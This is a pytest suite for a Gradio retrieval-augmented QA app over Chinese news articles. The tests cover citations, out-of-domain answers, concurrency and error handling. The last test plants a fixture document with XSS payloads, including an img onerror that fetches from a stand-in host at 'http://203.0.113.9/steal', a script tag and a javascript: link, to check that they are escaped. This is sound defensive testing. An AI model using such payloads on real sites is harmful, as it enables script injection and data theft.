"""The Gradio app for real: an in-process server on 127.0.0.1, queried with gradio_client."""

from __future__ import annotations

import html
import logging
import re

import pytest

from rag import build_index

gr = pytest.importorskip("gradio")
Client = pytest.importorskip("gradio_client").Client


def _serve(index):
    from rag.ui import CSS, build_demo

    demo = build_demo(index)
    demo.queue(default_concurrency_limit=4)
    demo.launch(server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True, ssr_mode=False, css=CSS)
    return demo


@pytest.fixture(scope="module")
def server(lexical_index):
    demo = _serve(lexical_index)
    yield demo
    demo.close()


def _text(response) -> str:
    messages = response if isinstance(response, list) else [response]
    return "\n".join(
        (m.get("content", "") + " " + str((m.get("metadata") or {}).get("title", ""))) if isinstance(m, dict) else str(m)
        for m in messages
    )


def _ask(server, question, *extra):
    client = Client(server.local_url, verbose=False)
    return _text(client.predict(question, *extra, api_name="/ask"))


def test_ask_endpoint_returns_a_cited_answer_with_its_source(server):
    text = _ask(server, "智慧岛核心区签约入驻了多少家企业？")
    assert "359" in text and "[1]" in text
    assert "002_d930b353b5af356e.txt" in html.unescape(text)
    assert "示范区:真抓实干求突破 全力以赴谋发展" in text
    assert "记者 姬慧洋" in text


def test_out_of_domain_question_says_not_found(server):
    assert "资料中没有找到相关内容" in _ask(server, "火星有几颗卫星？")
    text = _ask(server, "周口的人口有多少？")  # shares a word with the archive, but is not answered by it
    assert "资料中没有找到相关内容" in text and "可能相关" in text and "[1]" not in text


def test_empty_and_huge_messages(server):
    assert "请输入您的问题" in _ask(server, "   ")
    assert isinstance(_ask(server, "智慧岛" * 3334), str)  # 10,000 characters


def test_settings_filter_sources_and_fall_back_from_dense(server):
    text = _ask(server, "停车位", 3, "语义（不可用）", ["001_39b2f5fd87845c7e.txt"])
    assert "001_39b2f5fd87845c7e.txt" in html.unescape(text)
    assert "000_511f53cd465d0282.txt" not in html.unescape(text)


def test_two_turn_follow_up_through_the_api(server):
    client = Client(server.local_url, verbose=False)
    first = _text(client.predict("黄淮市场和麒麟建材城是怎么治理的？", api_name="/ask"))
    assert "黄淮市场" in first
    second = _text(client.predict("那里新建了多少个停车位？", api_name="/ask"))  # the server keeps the session's history
    answer_part = re.sub(r"<[^>]+>", "", second.split("来源")[0])
    assert "停车位325个" in answer_part


def test_concurrent_users_are_served(server):
    import concurrent.futures

    questions = ["许寨社区有多少名党员？", "文昌办事处发放了多少份宣传单？", "开发区排查了多少户自建房？", "智慧岛核心区签约入驻了多少家企业？"]
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        answers = list(pool.map(lambda q: _ask(server, q), questions))
    assert all("[1]" in a for a in answers)
    assert server._queue.default_concurrency_limit >= 4


def test_retrieval_error_shows_an_apology_and_is_logged(lexical_index, monkeypatch, caplog):
    demo = _serve(lexical_index)
    try:
        def broken(*args, **kwargs):
            raise RuntimeError("disk on fire")

        monkeypatch.setattr(lexical_index, "retrieve", broken)
        with caplog.at_level(logging.ERROR):
            text = _ask(demo, "智慧岛核心区签约入驻了多少家企业？")
        assert "抱歉" in text
        assert "disk on fire" in caplog.text and "Traceback" in caplog.text
        monkeypatch.undo()
        assert "[1]" in _ask(demo, "智慧岛核心区签约入驻了多少家企业？"), "the app keeps running"
    finally:
        demo.close()


MALICIOUS = """恶意测试稿件
本报讯（记者 测试）智慧岛测试稿件里有一张图片<img src=x onerror="fetch('http://203.0.113.9/steal')">和一段脚本<script>window.__xss=1</script>，还有[链接](javascript:alert(1))和![图](http://203.0.113.9/p.png)。它们都只能显示为文字。
"""


@pytest.fixture(scope="module")
def xss_index(tmp_path_factory):
    docs = tmp_path_factory.mktemp("xss-docs")
    (docs / "evil.txt").write_text(MALICIOUS, encoding="utf-8")
    return build_index(docs, tmp_path_factory.mktemp("xss") / "index", model="none", progress=False)


def test_malicious_passage_is_escaped_in_the_answer(xss_index):
    demo = _serve(xss_index)
    try:
        text = _ask(demo, "智慧岛测试稿件里有什么？")
    finally:
        demo.close()
    assert "<img" not in text and "<script" not in text
    assert "&#60;img" in text and "&#60;script&#62;" in text
    assert "&#91;链接&#93;(javascript" in text and "&#91;图&#93;(http" in text  # markdown links/images inert
